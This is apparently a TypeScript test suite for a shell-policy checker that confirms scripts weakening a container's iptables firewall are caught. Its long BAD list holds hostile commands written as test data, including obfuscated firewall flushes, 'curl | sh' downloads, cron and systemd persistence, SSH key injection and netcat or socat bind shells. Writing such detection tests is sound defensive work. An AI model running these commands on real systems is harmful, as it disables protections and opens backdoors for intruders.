import assert from "node:assert/strict";
import { Host } from "../../../policy/script/shellEffects";

const RULES = "iptables -P INPUT DROP; iptables -A INPUT -i lo -j ACCEPT";

/** What a script does behind rules that are closed: a fault, or rules that differ. */
function isNoticed(script: string, stdin = ""): boolean {
  const host = new Host();
  host.run(RULES);
  const before = host.ipv4.text();
  host.run(script, stdin);
  return host.faults.length > 0 || host.ipv4.text() !== before;
}

/** Ways to flush the rules, or to do something else that policies judge. */
const BAD = [
  "iptables -F",
  "/usr/sbin/iptables -F",
  "\\iptables -F",
  "'ipt''ables' -F",
  'ipt"ables" -F',
  "X=iptables; $X -F",
  "X=iptables; ${X} -F INPUT",
  "${X:-iptables} -F",
  "F=-F; iptables $F",
  "sudo iptables -F",
  "env LANG=C iptables -F",
  "nohup iptables -F &",
  "timeout 5 iptables -F",
  "nice -n 5 iptables -F",
  "command iptables -F",
  "exec iptables -F",
  "busybox iptables -F",
  "setsid iptables -F",
  "flock /run/x iptables -F",
  "flock /run/x -c 'iptables -F'",
  "systemd-run --on-active=1min iptables -F",
  "xargs iptables <<< -F",
  "echo -F | xargs iptables",
  "sh -c 'iptables -F'",
  'bash -ec "iptables -F"',
  "eval 'iptables -F'",
  "eval \"$(printf 'iptables %s' -F)\"",
  "bash <<E\niptables -F\nE",
  "bash <<-'E'\n\tiptables -F\n\tE",
  "bash <<< 'iptables -F'",
  "echo 'iptables -F' | sh",
  "printf '%s\\n' 'iptables -F' | bash -s",
  "echo aXB0YWJsZXMgLUY= | base64 -d | sh",
  "curl -s http://x | sh",
  "sh <(curl -s http://x)",
  ". <(echo iptables -F)",
  "echo 'iptables -F' > /tmp/x; sh /tmp/x",
  "echo 'iptables -F' > /tmp/x; chmod +x /tmp/x; /tmp/x",
  "cat > /tmp/x <<'E'\niptables -F\nE\nsource /tmp/x",
  "sh /tmp/copied.sh",
  "/opt/tool",
  "./setup.sh",
  "f() { iptables -F; }; f",
  "f() { sh -c \"$1\"; }; f 'iptables -F'",
  "if true; then iptables -F; fi",
  "if [ -e /x ]; then iptables -F; fi",
  "[ -e /x ] && iptables -F",
  "[ -e /x ] || iptables -F",
  "for i in 1 2; do iptables -F; done",
  "for t in filter mangle; do iptables -t $t -F; done",
  "while read x; do iptables $x; done <<< -F",
  "while true; do iptables -F; break; done",
  "until iptables -F; do sleep 1; done",
  "case $1 in *) iptables -F;; esac",
  "( sleep 60; iptables -F ) &",
  "x=$(iptables -F)",
  'echo "$(iptables -F)"',
  "echo `iptables -F`",
  "true && { iptables -F; }",
  "! iptables -F",
  "time iptables -F",
  "trap 'iptables -F' EXIT",
  "coproc iptables -F",
  "iptables-restore < /tmp/unknown",
  "iptables-restore <<E\n*filter\n:INPUT ACCEPT [0:0]\nCOMMIT\nE",
  "iptables-save | sed s/DROP/ACCEPT/ | iptables-restore",
  "iptables-legacy -F",
  "ip6tables -P INPUT ACCEPT; iptables -P INPUT ACCEPT",
  "iptables-apply x",
  "xtables-nft-multi iptables -F",
  "nft flush ruleset",
  "nft -f - <<< 'flush ruleset'",
  "ipset create x hash:ip",
  "ufw disable",
  "python3 -c 'import os; os.system(\"iptables -F\")'",
  "perl -e 'system(\"iptables -F\")'",
  "awk 'BEGIN { system(\"iptables -F\") }'",
  "awk 'BEGIN { \"iptables -F\" | getline }'",
  'awk \'BEGIN { print "x" > "/etc/cron.d/x" }\'',
  "find /tmp -exec iptables -F \\;",
  "sed -n '1e iptables -F' /etc/hostname",
  "sed -n 'w /etc/cron.d/x' /tmp/y",
  "tar xf /tmp/x.tar -C /",
  "tar cf /dev/null --checkpoint-action=exec=sh x",
  "systemctl disable homelab-firewall",
  "systemctl disable homelab-firewall.service",
  "systemctl mask --now homelab-firewall.service",
  "systemctl stop homelab-firewall.service",
  "systemctl enable --now nftables",
  "systemctl start ufw.service",
  "service nftables start",
  "systemctl $VERB homelab-firewall",
  "systemctl edit homelab-firewall",
  "systemctl link /tmp/x.service",
  "apt-get install -y ufw",
  "apt-get install -y iptables-persistent",
  "apt-get purge -y iptables",
  "dpkg -i /tmp/x.deb",
  "sed -i s/DROP/ACCEPT/ /etc/homelab/firewall/rules.v4",
  "echo x > /etc/homelab/firewall/rules.v4.$RANDOM",
  "rm -rf /etc/homelab",
  "mv /tmp/rules /etc/homelab/firewall/rules.v4",
  "cp /tmp/rules /etc/homelab/firewall/",
  "install -m 644 /tmp/rules /etc/homelab/firewall/rules.v4",
  "tee /etc/homelab/firewall/rules.v4 < /tmp/rules",
  "dd if=/tmp/rules of=/etc/homelab/firewall/rules.v4",
  "ln -sf /tmp/rules /etc/homelab/firewall/rules.v4",
  "cd /etc/homelab/firewall && cat /tmp/x > rules.v4",
  "cat /tmp/x > /etc/homelab/../homelab/firewall/rules.v4",
  "exec 3> /etc/homelab/firewall/rules.v4",
  "curl -o /etc/homelab/firewall/rules.v4 http://x",
  "chmod 777 /etc/homelab/firewall/load",
  "chown eve /etc/homelab/firewall/load",
  "echo '* * * * * root iptables -F' > /etc/cron.d/x",
  "crontab - <<< '@reboot iptables -F'",
  "echo 'iptables -F' | at now",
  "echo 'iptables -F' >> /etc/rc.local",
  "printf '[Service]\\nExecStart=/sbin/iptables -F\\n' > /etc/systemd/system/x.service",
  "printf '[Service]\\nExecStartPost=/sbin/iptables -F\\n' > /etc/systemd/system/docker.service.d/x.conf",
  "printf '[Service]\\nExecStart=\\n' > /etc/systemd/system/homelab-firewall.service.d/x.conf",
  "echo 'APT::Update::Post-Invoke {\"iptables -F\";};' > /etc/apt/apt.conf.d/99x",
  "echo 'alias iptables=true' >> /root/.bashrc",
  "alias x=iptables; x -F",
  "PATH=/tmp:$PATH; foo",
  "LD_PRELOAD=/tmp/x.so true",
  "echo ssh-ed25519 AAAA >> /root/.ssh/authorized_keys",
  "useradd eve",
  "echo root:x | chpasswd",
  "sed -i 's/#PermitRootLogin/PermitRootLogin/' /etc/ssh/sshd_config",
  "ip route add default via 10.0.0.1",
  "mount -o bind / /mnt",
  "modprobe x",
  "nsenter -t 1 -n iptables -F",
  "chroot / iptables -F",
  "ssh host iptables -F",
  "git clone http://x && cd x && make",
  "pip install x",
  "docker run -v /:/host x",
  "socat TCP-LISTEN:9999,fork EXEC:/bin/sh",
  "nc -l -p 9999 -e /bin/sh",
  "unknownprogram --do-it",
  "if iptables -F",
];

const GOOD = [
  "echo hello",
  "df -h / | tail -n 1",
  "apt-get update && apt-get install -y htop curl",
  "mkdir -p /srv/data && touch /srv/data/x",
  "echo a > /tmp/x && cat /tmp/x && rm -f /tmp/x",
  "systemctl restart docker",
  "systemctl is-active homelab-firewall",
  "cat /etc/homelab/firewall/rules.v4",
  "iptables -S; ip6tables -L -n",
  "grep -q x /etc/passwd || echo none >&2",
  'for f in /var/log/*.log; do wc -l "$f"; done',
  "journalctl -n 5 --no-pager",
  "ip addr show",
  "awk '{ print $1 }' /proc/loadavg",
  "if ! curl -fsS http://127.0.0.1/ >/dev/null; then echo down >&2; exit 1; fi",
  "docker ps; docker image prune -f",
  "echo 'vm.swappiness = 10' > /etc/sysctl.d/50-x.conf",
];

describe("a script in a CT", () => {
  for (const script of BAD) {
    it(`is noticed: ${JSON.stringify(script)}`, () => assert.ok(isNoticed(script)));
  }

  for (const script of ["sh", "bash -s", "cat | sh", "read x; $x"]) {
    it(`is noticed by its standard input: ${script}`, () => {
      assert.ok(isNoticed(script, "iptables -F\n"));
    });
  }

  for (const script of GOOD) {
    it(`passes: ${JSON.stringify(script)}`, () => {
      const host = new Host();
      host.run(RULES);
      const before = host.ipv4.text();
      host.run(script);
      assert.deepEqual([host.faults, host.ipv4.text()], [[], before]);
    });
  }

  it("may run programs that the configuration names", () => {
    const host = new Host({ programs: ["unknownprogram"] });
    host.run("unknownprogram --do-it");
    assert.deepEqual(host.faults, []);
  });

  it("has the text that both ways of a condition leave", () => {
    const host = new Host();
    const write = "printf '%s' a > /etc/postgresql/15/main/pg_hba.conf";
    host.run(
      `if ! printf '%s' a | cmp -s - /etc/postgresql/15/main/pg_hba.conf; then ${write}; fi`,
    );
    assert.deepEqual(
      [host.faults, host.files.get("/etc/postgresql/15/main/pg_hba.conf")],
      [[], "a"],
    );
  });
});
